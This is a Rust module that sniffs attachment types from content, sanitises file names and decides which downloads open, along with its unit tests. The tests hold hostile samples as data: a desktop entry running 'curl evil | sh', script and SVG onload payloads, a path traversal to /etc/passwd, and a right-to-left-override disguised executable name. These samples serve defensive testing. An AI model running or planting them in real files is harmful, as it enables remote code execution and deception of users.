//! Attachments: uploaded first (`POST /v1/uploads`), then named by id in a new ticket or
//! a reply. The type is decided by the content, never by the file name.

use serde::{Deserialize, Serialize};

/// The largest upload the provider accepts.
pub const UPLOAD_MAX_BYTES: usize = 10 * 1024 * 1024;
/// At most this many attachments on one message.
pub const ATTACHMENTS_MAX: usize = 10;

/// The types the provider accepts, as detected from the content.
pub const UPLOAD_TYPES: [&str; 7] =
    ["image/png", "image/jpeg", "image/gif", "application/pdf", "application/zip", "application/gzip", "text/plain"];

#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq, utoipa::ToSchema, ts_rs::TS)]
pub struct Attachment {
    pub id: String,
    /// The name the customer gave; shown, never trusted as a path.
    pub filename: String,
    /// Detected from the content.
    pub content_type: String,
    pub size: u64,
    /// Hex SHA-256 of the content.
    pub sha256: String,
}

/// The content type of `bytes`, when it is one the provider accepts. Text must be UTF-8
/// without NUL or other control bytes than tab, line feed and carriage return.
pub fn sniff(bytes: &[u8]) -> Option<&'static str> {
    const MAGIC: [(&[u8], &str); 7] = [
        (b"\x89PNG\r\n\x1a\n", "image/png"),
        (b"\xff\xd8\xff", "image/jpeg"),
        (b"GIF87a", "image/gif"),
        (b"GIF89a", "image/gif"),
        (b"%PDF-", "application/pdf"),
        (b"PK\x03\x04", "application/zip"),
        (b"\x1f\x8b", "application/gzip"),
    ];
    if let Some((_, t)) = MAGIC.iter().find(|(m, _)| bytes.starts_with(m)) {
        return Some(t);
    }
    let text = std::str::from_utf8(bytes).ok()?;
    let clean = text.chars().all(|c| !c.is_control() || matches!(c, '\t' | '\n' | '\r'));
    (clean && !bytes.is_empty()).then_some("text/plain")
}

/// The extensions of the types the app offers to open.
const OPENABLE_EXTS: [&str; 7] = ["png", "jpg", "jpeg", "gif", "pdf", "txt", "log"];

/// How a downloaded attachment is saved: under its name, with the extension of the type
/// its bytes are (appended when the name says otherwise: `run.desktop` holding text is
/// saved as `run.desktop.txt`, so the desktop opens it as text and never runs it), and
/// whether the app offers to open it: images, PDF and plain text only; an archive or
/// anything unrecognised is only saved. Nor is a file whose name claims another kind
/// (`run.desktop`, `page.html`, `x.svg`): the customer would expect it to act as that
/// kind; it is only saved, as what its bytes are.
pub fn saved_name(filename: &str, bytes: &[u8]) -> (String, bool) {
    let name = clean_filename(filename);
    let (exts, openable): (&[&str], bool) = match sniff(bytes) {
        Some("image/png") => (&["png"], true),
        Some("image/jpeg") => (&["jpg", "jpeg"], true),
        Some("image/gif") => (&["gif"], true),
        Some("application/pdf") => (&["pdf"], true),
        Some("text/plain") => (&["txt", "log"], true),
        Some("application/zip") => (&["zip"], false),
        Some("application/gzip") => (&["gz"], false),
        _ => (&["bin"], false),
    };
    let claimed = name.rsplit_once('.').filter(|(stem, _)| !stem.is_empty()).map(|(_, ext)| ext);
    let has = claimed.is_some_and(|ext| exts.iter().any(|e| ext.eq_ignore_ascii_case(e)));
    let claims_other = claimed.is_some_and(|ext| !OPENABLE_EXTS.iter().any(|e| ext.eq_ignore_ascii_case(e)));
    let name = if has { name } else { format!("{name}.{}", exts[0]) };
    (name, openable && !claims_other)
}

/// A file name safe to show and to save: the last path component, no control
/// characters, at most 200 characters; `attachment` when nothing is left.
pub fn clean_filename(name: &str) -> String {
    let last = name.rsplit(['/', '\\']).next().unwrap_or("");
    // Control characters go, and so do the invisible ones that make a name read other
    // than it is: bidi overrides and isolates ("invoice\u{202E}fdp.exe" shows as
    // "invoiceexe.pdf"), zero-width characters, the BOM.
    let invisible = |c: &char| matches!(*c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2069}' | '\u{FEFF}');
    let cleaned: String = last.chars().filter(|c| !c.is_control() && !invisible(c)).take(200).collect();
    let mut cleaned = cleaned.trim().trim_start_matches('.').to_owned();
    // File systems take 255 bytes a name: 200 characters of a non-Latin script can be more.
    while cleaned.len() > 255 {
        cleaned.pop();
    }
    if cleaned.is_empty() { "attachment".into() } else { cleaned }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn types_come_from_the_content_not_the_name() {
        assert_eq!(sniff(b"\x89PNG\r\n\x1a\n...."), Some("image/png"));
        assert_eq!(sniff(b"%PDF-1.7\n"), Some("application/pdf"));
        assert_eq!(sniff("journalctl -u nginx\nerror: bind() failed\n".as_bytes()), Some("text/plain"));
        assert_eq!(sniff("caffè, Grüße, año\n".as_bytes()), Some("text/plain"));
        assert_eq!(sniff(b"MZ\x90\x00\x03"), None, "a Windows executable");
        assert_eq!(sniff(b"\x7fELF\x02\x01"), None, "a Linux executable");
        assert_eq!(sniff(b"text with a \x00 NUL"), None);
        assert_eq!(sniff(b""), None);
    }

    #[test]
    fn file_names_lose_their_paths() {
        assert_eq!(clean_filename("../../etc/passwd"), "passwd");
        assert_eq!(clean_filename("C:\\Users\\me\\trace.txt"), "trace.txt");
        assert_eq!(clean_filename(".bashrc"), "bashrc");
        assert_eq!(clean_filename("a\u{0}b\nc.log"), "abc.log");
        assert_eq!(clean_filename("/"), "attachment");
    }

    #[test]
    fn a_saved_file_is_named_by_what_it_is_and_only_safe_types_open() {
        let text = b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n";
        assert_eq!(saved_name("run.desktop", text), ("run.desktop.txt".into(), false), "text, never a launcher, and not opened");
        assert_eq!(saved_name("page.html", b"<script>alert(1)</script>"), ("page.html.txt".into(), false));
        assert_eq!(saved_name("logo.svg", b"<svg onload=alert(1)></svg>"), ("logo.svg.txt".into(), false));
        assert_eq!(saved_name("notes", b"plain words\n"), ("notes.txt".into(), true), "a name that claims nothing");
        assert_eq!(saved_name("trace.LOG", b"1  gw\n"), ("trace.LOG".into(), true));
        assert_eq!(saved_name("photo.jpeg", b"\xff\xd8\xff\xe0"), ("photo.jpeg".into(), true));
        assert_eq!(saved_name("photo.png", b"\xff\xd8\xff\xe0"), ("photo.png.jpg".into(), true), "the bytes decide");
        assert_eq!(saved_name("tool.jar", b"PK\x03\x04rest"), ("tool.jar.zip".into(), false), "an archive is saved, not opened");
        assert_eq!(saved_name("invoice.pdf", b"MZ\x90\x00"), ("invoice.pdf.bin".into(), false), "unknown bytes");
        assert_eq!(saved_name(".pdf", b"%PDF-1.7"), ("pdf.pdf".into(), true));
    }

    #[test]
    fn file_names_lose_invisible_characters_and_fit_a_file_system() {
        assert_eq!(clean_filename("invoice\u{202E}fdp.exe"), "invoicefdp.exe", "a right-to-left override");
        assert_eq!(clean_filename("re\u{200B}port\u{2066}.pdf\u{FEFF}"), "report.pdf");
        let long = "日".repeat(200); // 600 bytes
        let cleaned = clean_filename(&long);
        assert!(cleaned.len() <= 255 && cleaned.chars().all(|c| c == '日'), "{} bytes", cleaned.len());
    }
}
